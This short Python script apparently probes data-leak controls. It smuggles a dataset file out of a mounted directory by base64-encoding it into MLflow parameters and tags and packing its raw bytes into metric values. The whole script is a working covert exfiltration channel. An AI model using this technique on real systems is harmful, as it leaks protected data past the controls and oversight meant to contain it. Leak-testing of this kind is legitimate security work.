"""Tries to carry a data set file out through MLflow params, tags and metrics."""

import base64
import struct
from pathlib import Path

import mlflow

image = next(Path("/mnt/dataset/CLaM-sample").glob("*/*/1.npy")).read_bytes()
payload = base64.b64encode(image).decode()
print(f"smuggling {len(image)} bytes", flush=True)
mlflow.set_experiment(__import__("os").environ["MLFLOW_EXPERIMENT_NAME"])
with mlflow.start_run():
    for i in range(0, len(payload), 5000):
        mlflow.log_param(f"p{i}", payload[i : i + 5000])
        mlflow.set_tag(f"t{i}", payload[i : i + 5000])
    for i in range(0, len(image) - 8, 8):
        mlflow.log_metric("m", struct.unpack("d", image[i : i + 8])[0], step=i)
print("everything went out", flush=True)
